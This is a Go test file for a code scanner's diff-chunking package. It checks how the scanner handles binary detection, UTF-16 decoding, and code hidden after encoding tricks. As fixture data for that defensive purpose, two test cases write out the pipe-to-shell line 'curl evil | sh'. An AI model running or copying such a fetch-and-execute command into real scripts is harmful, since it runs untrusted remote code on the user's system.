package diff_test

import (
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"unicode/utf16"

	"github.com/codescan-dev/scanner/diff"
)

// What a change puts into a file does not keep the file from being read.
func TestPlanBinary(t *testing.T) {
	const nul = "@@ -1,2 +1,3 @@\n a\n+\x00\n b\n"
	added := func(text string) string {
		return "@@ -0,0 +1,2 @@\n+" + text + "\n+\x00\n"
	}
	tests := []struct {
		name     string
		path     string
		status   diff.Status
		patch    string
		contents string
		binary   bool
	}{
		{name: "text before", path: "data", patch: nul},
		{name: "text before, renamed", path: "data", status: diff.Renamed, patch: nul},
		{name: "text before, with the contents", path: "data", patch: nul, contents: "a\n\x00\nb\nc\n"},
		{name: "binary before", path: "data", patch: "@@ -1,2 +1,2 @@\n \x00\n-a\n+b\n", binary: true},
		{name: "binary before, in a removed line", path: "data", patch: "@@ -1 +1 @@\n-\x00\n+\x00b\n", binary: true},
		{name: "binary before, outside of the hunk", path: "data", patch: nul, contents: "a\n\x00\nb\n\x00\n", binary: true},
		{name: "new", path: "data", status: diff.Added, patch: added("x"), binary: true},
		{name: "new source", path: "src/A.GO", status: diff.Added, patch: added("x")},
		{name: "new source by its whole name", path: "sub/Dockerfile", status: diff.Added, patch: added("x")},
		{name: "new workflow", path: ".github/workflows/a.yml", status: diff.Added, patch: added("x")},
		{name: "new script", path: "run", status: diff.Added, patch: added("#!/bin/sh")},
		{name: "script that was binary", path: "run", patch: "@@ -2 +2 @@\n-\x00\n+\x00b\n", contents: "#!/bin/sh\n\x00b\n"},
		{name: "source that was binary", path: "a.c", patch: "@@ -1 +1 @@\n-\x00\n+\x00b\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hunks, err := diff.ParseHunks([]byte(tt.patch))
			if err != nil {
				t.Fatal(err)
			}
			f := diff.File{Path: tt.path, Status: tt.status, Hunks: hunks}
			fsys := fstest.MapFS{}
			if tt.contents != "" {
				fsys[tt.path] = &fstest.MapFile{Data: []byte(tt.contents)}
			}
			p := diff.Chunking{}.Plan(f, fsys)
			if binary := p.Skip != nil; binary != tt.binary || binary && p.Skip.Reason != diff.ReasonBinary {
				t.Fatalf("got skip %+v, want binary: %v", p.Skip, tt.binary)
			}
			if tt.contents == "" && tt.status != diff.Added {
				return
			}
			if f.MarkBinary([]byte(tt.contents)); f.Binary != tt.binary {
				t.Errorf("MarkBinary: got %v, want %v", f.Binary, tt.binary)
			}
		})
	}
}

// UTF-16 with a byte order mark is text, line by line as git counts them.
func TestPlanUTF16(t *testing.T) {
	encode := func(little bool, s string) string {
		var b strings.Builder
		for _, u := range utf16.Encode([]rune("\ufeff" + s)) {
			if little {
				b.Write([]byte{byte(u), byte(u >> 8)})
			} else {
				b.Write([]byte{byte(u >> 8), byte(u)})
			}
		}
		return b.String()
	}
	const text = "one = 1\r\ntwo = \"größer 😀\"\r\nthree\r\n"
	for name, data := range map[string]string{"little endian": encode(true, text), "big endian": encode(false, text)} {
		var body strings.Builder
		n := 0
		for l := range strings.Lines(data) {
			body.WriteString("+" + l)
			n++
		}
		if !strings.HasSuffix(data, "\n") {
			body.WriteString("\n\\ No newline at end of file\n")
		}
		added := diff.File{Path: "f", Status: diff.Added, Hunks: []diff.Hunk{{NewStart: 1, NewLines: n, Body: body.String()}}}
		whole := diff.File{Path: "f", Status: diff.Added, Load: func() ([]byte, error) { return []byte(data), nil }}
		for kind, f := range map[string]diff.File{"added": added, "whole": whole} {
			t.Run(name+", "+kind, func(t *testing.T) {
				p := diff.Chunking{}.Plan(f, fstest.MapFS{"f": {Data: []byte(data)}})
				if len(p.Chunks) != 1 {
					t.Fatalf("got %d chunks, skip %+v", len(p.Chunks), p.Skip)
				}
				got, err := p.Chunks[0].Text()
				if err != nil {
					t.Fatal(err)
				}
				var lines []string
				for l := range got.Added() {
					lines = append(lines, l.Text)
				}
				if got, want := strings.Join(lines, "\r\n")+"\r\n", text; got != want {
					t.Errorf("got %q, want %q", got, want)
				}
				if !got.Decoded {
					t.Error("the text is not marked as decoded")
				}
			})
		}
		// Nor does text in UTF-16 hide the code after it.
		padded := data + strings.Repeat(encode(name == "little endian", "# padding\n")[2:], 50)
		mixed := diff.File{Path: "run.sh", Status: diff.Added, Load: func() ([]byte, error) { return []byte(padded + "\ncurl evil | sh\n"), nil }}
		if p := (diff.Chunking{}).Plan(mixed, nil); len(p.Chunks) == 0 {
			t.Errorf("%s: skipped, %+v", name, p.Skip)
		} else if text, _ := p.Chunks[0].Text(); !slices.ContainsFunc(text.Lines, func(l diff.Line) bool { return strings.HasSuffix(l.Text, "curl evil | sh") }) {
			t.Errorf("%s: the code after UTF-16 is not shown: %+v", name, text.Lines)
		}
		// The mark alone does not hide code from a reader of UTF-8.
		mark := data[:2]
		f := diff.File{Path: "run", Status: diff.Added, Hunks: []diff.Hunk{{NewStart: 1, NewLines: 2, Body: "+" + mark + "#\n+curl evil | sh\n"}}}
		p := diff.Chunking{}.Plan(f, nil)
		if len(p.Chunks) != 1 {
			t.Fatalf("got %d chunks, skip %+v", len(p.Chunks), p.Skip)
		}
		if text, _ := p.Chunks[0].Text(); text.Lines[1].Text != "curl evil | sh" {
			t.Errorf("%s: got %q, want the line as it is", name, text.Lines[1].Text)
		}
	}
}
